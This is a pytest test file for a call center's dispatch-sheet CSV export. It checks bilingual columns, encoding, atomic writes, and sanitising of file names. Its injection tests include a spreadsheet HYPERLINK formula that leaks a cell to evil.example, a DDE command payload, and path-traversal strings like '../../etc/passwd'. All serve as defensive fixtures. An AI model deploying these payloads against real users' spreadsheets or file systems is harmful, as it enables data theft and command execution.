"""Dispatch sheet files without Qt: columns and words, the CSV file, file names, failures."""

from __future__ import annotations

import csv
import errno
import io
import os
import re
import uuid
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path

import pytest

from agentdesk.domain.dispatch import DispatchSheet, SheetLine
from agentdesk.domain.errors import KnownError
from agentdesk.domain.orders import OrderStatus, PaymentMethod
from agentdesk.services import dispatch_files
from agentdesk.services.dispatch_files import (
    COLUMN_KEYS,
    LANGUAGES,
    SHEET_COLUMNS,
    SHEET_LABELS,
    sheet_facts,
    sheet_file_name,
    sheet_rows,
    spreadsheet_safe,
    write_sheet_csv,
)

CENTER = timezone(timedelta(hours=8))  # the center's zone, without needing a tz database
HANDOVER = datetime(2026, 12, 1, 17, 30, tzinfo=CENTER)
BOM = b"\xef\xbb\xbf"


def sheet_line(number: int, **changes: object) -> SheetLine:
    line = SheetLine(
        order_id=uuid.UUID(int=number), order_no=f"SO20261201{number:04d}",
        customer_name="王小明", customer_no=f"C{10000000 + number:08d}",
        contact="138 0013 8000", address="北京市朝阳区建国路88号SOHO现代城3号楼1502室",
        items="5G 畅享套餐 169 元 ×1；华为 Mate 60 Pro ×1", total=Decimal("6999.00"),
        payment=PaymentMethod.CASH_ON_DELIVERY, preferred_time="morning",
        id_check="110105********123X", real_name="王小明", notes="小区门禁，到了打电话",
        status=OrderStatus.CONFIRMED, agent_name="林晓",
        taken_at=datetime(2026, 12, 1, 3, 5, tzinfo=UTC))  # 11:05 in the center
    return replace(line, **changes)  # type: ignore[arg-type]


def make_sheet(*lines: SheetLine, hall: str = "", hall_en: str = "") -> DispatchSheet:
    return DispatchSheet(
        round_name="17:30 批次（次日送达）", round_name_en="17:30 round (next-day delivery)",
        handover=HANDOVER, booking_from=HANDOVER, booking_until=HANDOVER + timedelta(minutes=30),
        delivery_date=date(2026, 12, 2), hall_name=hall, hall_name_en=hall_en,
        hall_address="北京市东城区建国门内大街18号" if hall else "",
        lines=lines or (sheet_line(1),), generated_at=HANDOVER - timedelta(minutes=2))


def read_back(path: Path) -> list[list[str]]:
    data = path.read_bytes()
    assert data.startswith(BOM)
    with io.StringIO(data[len(BOM):].decode("utf-8"), newline="") as stream:
        return list(csv.reader(stream))


# --------------------------------------------------------------------------- columns and rows

def test_both_languages_name_every_column_and_label() -> None:
    assert set(SHEET_COLUMNS) == set(SHEET_LABELS) == set(LANGUAGES) == {"zh_CN", "en"}
    for language in LANGUAGES:
        assert len(SHEET_COLUMNS[language]) == len(COLUMN_KEYS) == 15
        assert len(set(SHEET_COLUMNS[language])) == 15
    assert SHEET_LABELS["zh_CN"].keys() == SHEET_LABELS["en"].keys()
    assert SHEET_COLUMNS["zh_CN"][:3] == ("序号", "订单号", "客户")
    assert SHEET_COLUMNS["en"][:3] == ("No.", "Order no.", "Customer")
    assert SHEET_COLUMNS["en"][7] == "Total (CNY)"


def test_rows_in_chinese_use_the_call_centers_words() -> None:
    pickup = sheet_line(2, address="", payment=PaymentMethod.PAY_AT_HALL, preferred_time="any",
                        id_check="", real_name="", notes="", status=OrderStatus.RESCHEDULED,
                        total=Decimal("129"))
    rows = sheet_rows(make_sheet(sheet_line(1), pickup), "zh_CN")
    assert rows == [
        ["1", "SO202612010001", "王小明", "C10000001", "138 0013 8000",
         "北京市朝阳区建国路88号SOHO现代城3号楼1502室",
         "5G 畅享套餐 169 元 ×1；华为 Mate 60 Pro ×1", "6999.00", "货到付款", "上午",
         "王小明 110105********123X", "小区门禁，到了打电话", "已确认", "林晓", "2026-12-01 11:05"],
        ["2", "SO202612010002", "王小明", "C10000002", "138 0013 8000", "营业厅自提",
         "5G 畅享套餐 169 元 ×1；华为 Mate 60 Pro ×1", "129.00", "营业厅付款", "不限", "", "",
         "改期", "林晓", "2026-12-01 11:05"],
    ]


@pytest.mark.parametrize(("status", "zh", "en"), [
    (OrderStatus.CONFIRMED, "已确认", "Confirmed"),
    (OrderStatus.DISPATCHED, "已派送", "Dispatched"),
    (OrderStatus.DELIVERED, "已送达", "Delivered"), (OrderStatus.FAILED, "派送失败", "Failed"),
    (OrderStatus.REFUSED, "拒收", "Refused"), (OrderStatus.RESCHEDULED, "改期", "Rescheduled"),
    (OrderStatus.CANCELLED, "已取消", "Cancelled"),
])
def test_every_status_has_a_word_in_both_languages(status: OrderStatus, zh: str, en: str) -> None:
    sheet = make_sheet(sheet_line(1, status=status))
    assert sheet_rows(sheet, "zh_CN")[0][12] == zh
    assert sheet_rows(sheet, "en")[0][12] == en


def test_rows_in_english() -> None:
    row = sheet_rows(make_sheet(sheet_line(1, preferred_time="evening", address="",
                                           total=Decimal("0.5"))), "en")[0]
    assert row[5] == "Pick-up at hall"
    assert row[7] == "0.50"
    assert row[8] == "Cash on delivery"
    assert row[9] == "Evening"
    assert row[12] == "Confirmed"


def test_an_id_check_without_a_name_shows_the_masked_number() -> None:
    row = sheet_rows(make_sheet(sheet_line(1, real_name="")), "zh_CN")[0]
    assert row[10] == "110105********123X"


def test_an_unknown_language_is_refused() -> None:
    with pytest.raises(ValueError, match="zh_CN or en"):
        sheet_rows(make_sheet(), "fr")
    with pytest.raises(ValueError, match="unknown sheet language"):
        write_sheet_csv(make_sheet(), Path("never.csv"), "zh")


def test_the_title_facts_sum_the_cash_to_collect() -> None:
    sheet = make_sheet(sheet_line(1), sheet_line(2, total=Decimal("30000.50")),
                       hall="北京建国门营业厅", hall_en="Beijing Jianguomen hall")
    zh = dict(sheet_facts(sheet, "zh_CN"))
    assert zh == {"交接时间": "2026-12-01（周二） 17:30", "预约外呼": "17:30-18:00",
                  "送达日期": "2026-12-02（周三）", "订单数": "2", "应收现金": "¥36,999.50",
                  "营业厅地址": "北京市东城区建国门内大街18号"}
    en = dict(sheet_facts(sheet, "en"))
    assert en["Cash to collect"] == "CNY 36,999.50"
    assert en["Handover"] == "Tue 2026-12-01 17:30"


# --------------------------------------------------------------------------- the CSV file

def test_the_csv_is_utf8_with_a_bom_crlf_and_reads_back(tmp_path: Path) -> None:
    sheet = make_sheet(sheet_line(1), sheet_line(2, address=""))
    for language in LANGUAGES:
        target = tmp_path / f"sheet-{language}.csv"
        write_sheet_csv(sheet, target, language)
        data = target.read_bytes()
        assert data.startswith(BOM + SHEET_COLUMNS[language][0].encode("utf-8"))
        assert data.count(b"\r\n") == 3 and data.count(b"\n") == 3 and data.endswith(b"\r\n")
        assert read_back(target) == [list(SHEET_COLUMNS[language]),
                                     *sheet_rows(sheet, language)]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["sheet-en.csv", "sheet-zh_CN.csv"]


def test_an_empty_sheet_is_the_header_row(tmp_path: Path) -> None:
    sheet = replace(make_sheet(), lines=())
    write_sheet_csv(sheet, tmp_path / "empty.csv", "en")
    assert read_back(tmp_path / "empty.csv") == [list(SHEET_COLUMNS["en"])]


@pytest.mark.parametrize("text", [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=1+1", "+86 1+1", "-2+3",
    "@SUM(A1:A9)", "\t=cmd|'/c calc'!A1", "\r=1", "-", "+", "=",
])
def test_cells_a_spreadsheet_would_run_are_neutralised(tmp_path: Path, text: str) -> None:
    sheet = make_sheet(sheet_line(1, notes=text, customer_name=text, items=text, agent_name=text))
    write_sheet_csv(sheet, tmp_path / "sheet.csv", "zh_CN")
    row = read_back(tmp_path / "sheet.csv")[1]
    for column in (2, 6, 11, 13):
        assert row[column] == "'" + text


def test_plain_numbers_and_inner_signs_are_left_alone() -> None:
    for text in ("-1.00", "+12", "6999.00", "0", "a=b", "1+1", " =1", "＝1", "'=1"):
        assert spreadsheet_safe(text) == text
    assert spreadsheet_safe("-1.00e3") == "'-1.00e3"
    assert spreadsheet_safe("--1") == "'--1"


def test_hostile_text_is_kept_and_reads_back(tmp_path: Path) -> None:
    hostile = {
        "notes": "第一行\n第二行\r\n第三行\r最后" + "长" * 100_000,
        "customer_name": "王\x00小明",
        "address": "\u202e\u200f地址 <b>粗</b> & \"引号\", 逗号",
        "items": "</td><script>alert(1)</script>",
        "agent_name": "\u2028林晓\u2029",
        "customer_no": "𠀀𡃁 C0001",
    }
    sheet = make_sheet(sheet_line(1, **hostile), sheet_line(2))
    target = tmp_path / "hostile.csv"
    write_sheet_csv(sheet, target, "zh_CN")
    rows = read_back(target)
    assert len(rows) == 3
    assert rows[1] == sheet_rows(sheet, "zh_CN")[0]
    assert rows[1][11] == hostile["notes"] and len(rows[1][11]) > 100_000
    assert rows[1][2] == "王\x00小明"
    assert rows[1][5].startswith("\u202e\u200f")
    assert rows[2][1] == "SO202612010002"


def test_a_lone_surrogate_is_replaced_not_a_crash(tmp_path: Path) -> None:
    write_sheet_csv(make_sheet(sheet_line(1, notes="a\ud800b")), tmp_path / "sheet.csv", "en")
    assert read_back(tmp_path / "sheet.csv")[1][11] == "a?b"


def test_a_new_file_replaces_the_old_one_whole(tmp_path: Path) -> None:
    target = tmp_path / "sheet.csv"
    target.write_bytes(b"old contents that are longer than nothing" * 100)
    write_sheet_csv(make_sheet(), target, "en")
    assert read_back(target)[0] == list(SHEET_COLUMNS["en"])
    assert [p.name for p in tmp_path.iterdir()] == ["sheet.csv"]


# --------------------------------------------------------------------------- failures

def assert_export_failed(error: KnownError, target: Path) -> None:
    assert error.code == "export_failed"
    assert error.params["path"] == str(target)
    assert error.params["reason"]
    assert str(target) in str(error)


def test_a_missing_directory_fails_cleanly(tmp_path: Path) -> None:
    target = tmp_path / "missing" / "sheet.csv"
    with pytest.raises(KnownError) as caught:
        write_sheet_csv(make_sheet(), target, "zh_CN")
    assert_export_failed(caught.value, target)
    assert "No such file" in str(caught.value)
    assert list(tmp_path.iterdir()) == []


def test_a_file_in_place_of_the_directory_fails_cleanly(tmp_path: Path) -> None:
    (tmp_path / "folder").write_text("not a directory")
    target = tmp_path / "folder" / "sheet.csv"
    with pytest.raises(KnownError) as caught:
        write_sheet_csv(make_sheet(), target, "zh_CN")
    assert_export_failed(caught.value, target)
    assert [p.name for p in tmp_path.iterdir()] == ["folder"]


def test_a_directory_in_place_of_the_file_fails_cleanly(tmp_path: Path) -> None:
    (tmp_path / "sheet.csv").mkdir()
    with pytest.raises(KnownError) as caught:
        write_sheet_csv(make_sheet(), tmp_path / "sheet.csv", "zh_CN")
    assert_export_failed(caught.value, tmp_path / "sheet.csv")
    assert [p.name for p in tmp_path.iterdir()] == ["sheet.csv"]


@pytest.mark.skipif(os.name == "nt" or os.geteuid() == 0,
                    reason="POSIX permissions, which root ignores")
def test_a_read_only_directory_fails_cleanly(tmp_path: Path) -> None:
    folder = tmp_path / "locked"
    folder.mkdir()
    folder.chmod(0o500)
    try:
        with pytest.raises(KnownError) as caught:
            write_sheet_csv(make_sheet(), folder / "sheet.csv", "zh_CN")
        assert_export_failed(caught.value, folder / "sheet.csv")
        assert "Permission denied" in str(caught.value)
        assert list(folder.iterdir()) == []
    finally:
        folder.chmod(0o700)


def test_a_failed_rename_leaves_the_old_file_and_no_temporary(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = tmp_path / "sheet.csv"
    target.write_bytes(b"yesterday's sheet")

    def disk_full(source: str, destination: str) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(dispatch_files.os, "replace", disk_full)
    with pytest.raises(KnownError) as caught:
        write_sheet_csv(make_sheet(), target, "en")
    assert_export_failed(caught.value, target)
    assert caught.value.params["reason"] == os.strerror(errno.ENOSPC)
    assert target.read_bytes() == b"yesterday's sheet"
    assert [p.name for p in tmp_path.iterdir()] == ["sheet.csv"]


def test_a_failed_write_leaves_no_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def no_sync(descriptor: int) -> None:
        raise OSError(errno.EIO, os.strerror(errno.EIO))

    monkeypatch.setattr(dispatch_files.os, "fsync", no_sync)
    with pytest.raises(KnownError) as caught:
        write_sheet_csv(make_sheet(), tmp_path / "sheet.csv", "en")
    assert_export_failed(caught.value, tmp_path / "sheet.csv")
    assert list(tmp_path.iterdir()) == []


# --------------------------------------------------------------------------- file names

SAFE_NAME = re.compile(
    r"dispatch-2026-12-01-1730-(home|hall|hall-[a-z0-9]+(-[a-z0-9]+)*)\.[a-z0-9]+")
WINDOWS_RESERVED = {"con", "prn", "aux", "nul", *(f"com{i}" for i in range(10)),
                    *(f"lpt{i}" for i in range(10))}


def test_the_delivery_teams_sheet_is_home() -> None:
    assert sheet_file_name(make_sheet(), "csv") == "dispatch-2026-12-01-1730-home.csv"
    assert sheet_file_name(make_sheet(), ".PDF") == "dispatch-2026-12-01-1730-home.pdf"


@pytest.mark.parametrize(("hall", "hall_en", "expected"), [
    ("北京建国门营业厅", "Beijing Jianguomen hall", "hall-beijing-jianguomen-hall"),
    ("上海徐家汇营业厅", "Shanghai Xújiāhuì hall", "hall-shanghai-xujiahui-hall"),
    ("营业厅", "../../etc/passwd", "hall-etc-passwd"),
    ("营业厅", "C:\\Windows\\System32", "hall-c-windows-system32"),
    ("营业厅", "CON", "hall-con"),
    ("营业厅", "NUL.txt", "hall-nul-txt"),
    ("营业厅", "a/b\\c:d*e?f\"g<h>i|j", "hall-a-b-c-d-e-f-g-h-i-j"),
    ("营业厅", "..", None),
    ("营业厅", "", None),
    ("北京金融街 VIP 室", "", None),
    ("", "Beijing Jianguomen hall", "hall-beijing-jianguomen-hall"),
    ("营业厅", "Hall " + "x" * 300, "hall-hall-" + "x" * 35),
])
def test_a_halls_sheet_has_a_safe_name(hall: str, hall_en: str, expected: str | None) -> None:
    name = sheet_file_name(make_sheet(hall=hall, hall_en=hall_en), "pdf")
    assert SAFE_NAME.fullmatch(name), name
    assert len(name) <= 80
    assert not set(name) & set('/\\:*?"<>|\x00 ')
    assert name.split(".")[0].lower() not in WINDOWS_RESERVED
    part = name.removeprefix("dispatch-2026-12-01-1730-").removesuffix(".pdf")
    if expected is not None:
        assert part == expected
    else:
        assert re.fullmatch(r"hall-[0-9a-f]{6}", part)


def test_halls_without_an_ascii_name_do_not_share_a_file_name() -> None:
    halls = ("北京建国门营业厅", "北京金融街 VIP 室", "上海徐家汇营业厅", "广州天河营业厅")
    names = {sheet_file_name(make_sheet(hall=hall), "csv") for hall in halls}
    assert len(names) == 4


@pytest.mark.parametrize("extension", ["", ".", "c/sv", "..csv", "csv ", "a" * 9, "pdf\x00"])
def test_a_bad_extension_is_refused(extension: str) -> None:
    with pytest.raises(ValueError, match="extension"):
        sheet_file_name(make_sheet(), extension)
